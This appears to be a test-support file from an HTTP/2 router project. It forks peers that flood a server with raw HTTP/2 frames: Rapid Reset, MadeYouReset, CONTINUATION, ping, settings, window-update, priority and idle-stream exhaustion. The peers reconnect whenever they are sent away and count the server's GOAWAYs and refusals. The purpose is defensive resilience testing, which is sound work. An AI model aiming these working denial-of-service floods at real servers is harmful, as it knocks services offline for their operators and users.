/** Peers that speak HTTP/2 in raw frames and mean harm, in a process of their own: forked by R7 and R8. */
import { connect, type Socket } from "node:net";
import { FRAME, PREFACE, SETTING, frameOf, settingsFrame, words } from "../../src/router/http2/frames.ts";
import { blockOf } from "../../src/router/http2/hpack.ts";
import { dataFrame, framesIn } from "../support/http2-peer.ts";

export interface Attack {
  readonly address: string;
  readonly kind: keyof typeof ATTACKS;
  readonly connections: number;
}

export interface Told {
  /** Connections begun, and those that the server sent away. */
  readonly connections: number;
  readonly goaways: number;
  readonly refused: number;
  readonly sentMb: number;
}

const BLOCK = blockOf([
  [":method", "POST"],
  [":scheme", "http"],
  [":path", "/envoy.service.ext_proc.v3.ExternalProcessor/Process"],
  ["content-type", "application/grpc"],
  ["te", "trailers"],
]);
const head = (stream: number, flags = 4): Buffer => frameOf(FRAME.headers, flags, stream, BLOCK);
const times = (count: number, nth: (n: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, n) => nth(n)));
const PINGS = times(3000, () => frameOf(FRAME.ping, 0, 0, Buffer.alloc(8)));
const each =
  (then: (stream: number) => Buffer) =>
  (from: number): Buffer =>
    times(500, (n) => Buffer.concat([head(from + 2 * n), then(from + 2 * n)]));

/** The next bytes of a connection that has used streams below `from`; 500 streams more at most. */
const ATTACKS = {
  rapidReset: each((stream) => frameOf(FRAME.reset, 0, stream, words(8))),
  madeYouReset: each((stream) => frameOf(FRAME.windowUpdate, 0, stream, words(0))),
  continuation: (from: number) =>
    Buffer.concat([head(from, 0), times(500, () => frameOf(FRAME.continuation, 0, from, Buffer.alloc(100)))]),
  ping: () => PINGS,
  pingUnread: () => PINGS,
  settings: () => times(2000, (n) => settingsFrame([[SETTING.initialWindowSize, 1000 + n]])),
  settingsUnread: () => times(2000, () => settingsFrame([])),
  windowUpdate: () => times(3000, () => frameOf(FRAME.windowUpdate, 0, 0, words(1))),
  emptyData: (from: number) =>
    Buffer.concat([from === 1 ? head(1) : Buffer.alloc(0), times(3000, () => dataFrame(1, 0))]),
  priority: () => times(3000, () => frameOf(FRAME.priority, 0, 3, Buffer.alloc(5))),
  /** Ten thousand streams that say nothing and stay. */
  streams: (from: number) => (from > 20_000 ? Buffer.alloc(0) : times(500, (n) => head(from + 2 * n))),
} as const;

const told = { connections: 0, goaways: 0, refused: 0, sentMb: 0 };

/** Keeps one connection busy; where it is sent away, it comes again at once. */
function harm({ address, kind, connections }: Attack): void {
  const [host = "", port = ""] = address.split(":");
  const socket = connect(Number(port), host);
  told.connections += 1;
  let from = 1;
  const go = (): void => {
    if (socket.destroyed) return;
    const bytes = ATTACKS[kind](from);
    if (bytes.length === 0) return;
    from += 1000;
    told.sentMb += bytes.length / 2 ** 20;
    if (socket.write(bytes)) setImmediate(go);
    else socket.once("drain", go);
  };
  socket.on("error", () => undefined);
  socket.once("connect", () => {
    socket.write(Buffer.concat([PREFACE, settingsFrame([])]));
    go();
  });
  if (!kind.endsWith("Unread")) listen(socket);
  socket.once("close", () => void setTimeout(() => harm({ address, kind, connections }), 5));
}

/** Only GOAWAY and refusals are looked for. */
function listen(socket: Socket): void {
  let held: Buffer = Buffer.alloc(0);
  socket.on("data", (chunk: Buffer) => {
    const bytes = Buffer.concat([held, chunk]);
    const end = wholeBytes(bytes);
    held = bytes.subarray(end);
    for (const { type, payload } of framesIn(bytes.subarray(0, end))) {
      if (type === FRAME.goaway) told.goaways += 1;
      if (type === FRAME.goaway) socket.destroy();
      if (type === FRAME.reset && payload.readUInt32BE(0) === 7) told.refused += 1;
    }
  });
}

/** Of the frames that are here to their end. */
function wholeBytes(bytes: Buffer): number {
  let at = 0;
  for (let next = 0; next <= bytes.length; next = at + 9 + (at + 9 <= bytes.length ? bytes.readUIntBE(at, 3) : 0)) {
    at = next;
    if (at + 9 > bytes.length) return at;
  }
  return at;
}

if (process.send !== undefined)
  process.on("message", (attack: Attack | "tell") => {
    if (attack === "tell") process.send?.(told satisfies Told);
    else for (let n = 0; n < attack.connections; n++) harm(attack);
  });
